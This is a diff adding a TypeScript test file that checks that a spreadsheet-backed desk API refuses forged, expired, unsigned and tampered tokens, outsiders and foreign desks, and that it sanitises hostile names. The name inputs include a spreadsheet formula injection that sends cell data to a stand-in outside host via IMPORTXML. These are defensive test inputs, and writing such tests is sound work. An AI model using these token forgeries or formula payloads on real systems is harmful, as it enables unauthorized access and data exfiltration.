@@ -1,0 +1,180 @@
+// Every address of the contract with every kind of token, and at a desk that is one's own, somebody else's, or none:
+// what is refused is refused by a 4xx of ours, and nothing is written. Which role may do what is in rights.test.ts.
+import assert from 'node:assert/strict';
+import { readFileSync } from 'node:fs';
+import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest';
+import type { ChangesAnswer, SubmitAnswer } from '../../../functions/src/contract/contract.ts';
+import { open } from '../../fixtures/actions/action-place.ts';
+import { at, CALL, storedDesk, storedState } from '../../fixtures/core/desk-fixture.ts';
+import { stripped, tampered, unsigned } from '../../fixtures/tokens/tokens.ts';
+import { DESK_ID, OpenDoors, type Reply } from './open-doors.ts';
+
+const NOW = at('2026-11-20 15:00');
+const KEY = 'aaaaaaaa-0000-4000-8000-000000000001';
+const FOREIGN = 'desk-foreign';
+const contract = readFileSync(
+  new URL('../../../functions/src/contract/contract.ts', import.meta.url),
+  'utf8',
+);
+const ADDRESSES = [...contract.matchAll(/^ {2}'(GET|POST) (\/v1\/\S*)':/gm)].map(
+  ([, method = '', path = '']) => ({
+    method,
+    path,
+  }),
+);
+/** A body that each address takes, by the end of its path; others take none. */
+const BODIES: Readonly<Record<string, object>> = {
+  '/v1/desks': { spreadsheetId: DESK_ID },
+  '/members': { nonce: 'guessed' },
+  '/owner': { mail: 'sunli@example.com' },
+  '/rows': { rows: [{ key: KEY, base: '', edited: ['customer'], cells: CALL }] },
+  '/records': { keys: [KEY] },
+  '/figures': { sheetId: 1002, row: 4, column: 2 },
+};
+
+let doors: OpenDoors;
+let standing: Record<string, unknown>;
+beforeAll(async () => {
+  doors = await OpenDoors.open('doors-matrix', NOW);
+  const { rows, ...desk } = storedDesk();
+  const theirs = Object.entries(rows).filter(([key]) => key.startsWith('setting-'));
+  const foreign = { ...desk, id: FOREIGN, owner: 'else@example.com', rows: Object.fromEntries(theirs) };
+  await open(doors.place.ports, foreign, storedState());
+  const row = { key: KEY, base: '', edited: [], cells: CALL };
+  const saved = await knock('POST', `/v1/desks/${DESK_ID}/tables/hotline/rows`, await doors.token(), {
+    rows: [row],
+  });
+  if (saved.status !== 200) throw new Error(saved.text);
+  const gone = { key: 'person-gone', base: '', edited: [], cells: GONE };
+  const left = await knock('POST', `/v1/desks/${DESK_ID}/tables/people/rows`, await doors.token(), {
+    rows: [gone],
+  });
+  if ((JSON.parse(left.text) as SubmitAnswer).rows[0]?.outcome !== 'saved') throw new Error(left.text);
+  standing = await doors.everything();
+}, 60_000);
+afterAll(() => doors.close());
+/** What was refused has left nothing, and was no fault of ours. */
+afterEach(async () => {
+  assert.deepEqual(await doors.everything(), standing);
+  assert.deepEqual(doors.faults, []);
+});
+
+const GONE = {
+  name: '旧同事',
+  mail: 'gone@example.com',
+  department: '客服部',
+  role: '客服人员',
+  onDuty: '离职',
+};
+
+function addressOf(path: string, desk: string): string {
+  return path
+    .replace(':desk', desk)
+    .replace(':table', 'hotline')
+    .replace(':key', KEY)
+    .replace(':card', 'contacts');
+}
+
+/** Why an address is refused to whoever does not belong to the desk. */
+function codeFor(path: string): string {
+  if (path === '/v1/desks') return 'has_left';
+  return path.endsWith('/members') ? 'nonce_wrong' : 'not_a_member';
+}
+
+function bodyOf(path: string): object | undefined {
+  return BODIES[path] ?? BODIES[path.slice(path.lastIndexOf('/'))];
+}
+
+function knock(method: string, path: string, token: string | undefined, body?: object): Promise<Reply> {
+  return doors.knock('api', path, {
+    method,
+    headers: {
+      'content-type': 'application/json',
+      ...(token !== undefined && { authorization: `Bearer ${token}` }),
+    },
+    ...(body && { body: JSON.stringify(body) }),
+  });
+}
+
+const TOKENS: Readonly<Record<string, () => Promise<string | undefined>>> = {
+  none: async () => undefined,
+  'an empty one': async () => '',
+  'no token at all': async () => 'x.y.z',
+  'one of yesterday': () => doors.token({ lifetimeSeconds: -120 }),
+  'one of another client': () => doors.token({ audience: 'another-client' }),
+  'one of our machine': () => doors.machineToken(),
+  'one without its signature': async () => stripped(await doors.token()),
+  'one that says it is not signed': async () => unsigned(await doors.token()),
+  'one of a guest that says it is the owner’s': async () =>
+    tampered(await doors.token({ sub: '7', email: 'guest@example.com' }), {
+      sub: '1001',
+      email: 'owner@example.com',
+    }),
+};
+
+test('the contract has its addresses, and each has a body here where it takes one', () => {
+  expect(ADDRESSES.length).toBeGreaterThan(13);
+  const bodies = [...contract.matchAll(/^ {2}'POST (\/v1\/\S*)': \{ body: (\w+)/gm)].map(
+    ([, path = '']) => path,
+  );
+  expect(bodies.filter(path => bodyOf(path) === undefined && !path.endsWith(':card'))).toEqual([]);
+});
+
+describe.each(ADDRESSES)('$method $path', ({ method, path }) => {
+  test.each(Object.keys(TOKENS))('with %s is refused', async kind => {
+    const shown = await TOKENS[kind]?.();
+    const answer = await knock(method, addressOf(path, DESK_ID), shown, bodyOf(path));
+    expect([answer.status, answer.code]).toEqual([
+      401,
+      shown === undefined || shown === '' ? 'token_missing' : 'token_invalid',
+    ]);
+  });
+
+  test('is refused to a stranger, and to whoever has left', async () => {
+    const stranger = await doors.token({ sub: '7', email: 'stranger@example.com' });
+    const gone = await doors.token({ sub: '8', email: 'gone@example.com' });
+    // Whoever is not known yet may ask to be let in: that is no refusal.
+    const known = path === '/v1/desks' ? gone : stranger;
+    const answer = await knock(method, addressOf(path, DESK_ID), known, bodyOf(path));
+    expect([answer.status, answer.code]).toEqual([403, codeFor(path)]);
+    expect(await knock(method, addressOf(path, DESK_ID), gone, bodyOf(path))).toMatchObject({
+      status: 403,
+      code: 'has_left',
+    });
+  });
+
+  test.runIf(path !== '/v1/desks')('is refused at a desk of others, and where there is none', async () => {
+    const token = await doors.token();
+    const foreign = await knock(method, addressOf(path, FOREIGN), token, bodyOf(path));
+    expect([foreign.status, foreign.code]).toEqual([403, codeFor(path)]);
+    const none = await knock(method, addressOf(path, 'desk-unknown'), token, bodyOf(path));
+    expect([none.status, none.code]).toEqual(
+      path.endsWith('/members') ? [403, 'nonce_wrong'] : [404, 'unknown_desk'],
+    );
+  });
+});
+
+describe('a name', () => {
+  test.each([
+    '李\n小明',
+    '李\u0000小明',
+    '\ud800',
+    '李\u202e明小',
+    '=IMPORTXML("https://x.example/?"&A1)',
+    '+1',
+    '@SUM(A1)',
+  ])('%j is kept as one line of text, or refused at its cell', async customer => {
+    const token = await doors.token();
+    const key = crypto.randomUUID();
+    const rows = [{ key, base: '', edited: [], cells: { ...CALL, customer } }];
+    const answer = await knock('POST', `/v1/desks/${DESK_ID}/tables/hotline/rows`, token, { rows });
+    expect(answer.status).toBe(200);
+    const pulled = await knock('GET', `/v1/desks/${DESK_ID}/changes?since=0`, token);
+    const shown = (JSON.parse(pulled.text) as ChangesAnswer).rows.find(each => each.key === key);
+    const [row] = (JSON.parse(answer.text) as SubmitAnswer).rows;
+    const name = shown?.cells.customer ?? row?.cells.customer ?? '';
+    expect(String(name).isWellFormed()).toBe(true);
+    expect(['\n', '\r', '\u0000'].filter(each => String(name).includes(each))).toEqual([]);
+    standing = await doors.everything();
+  });
+});
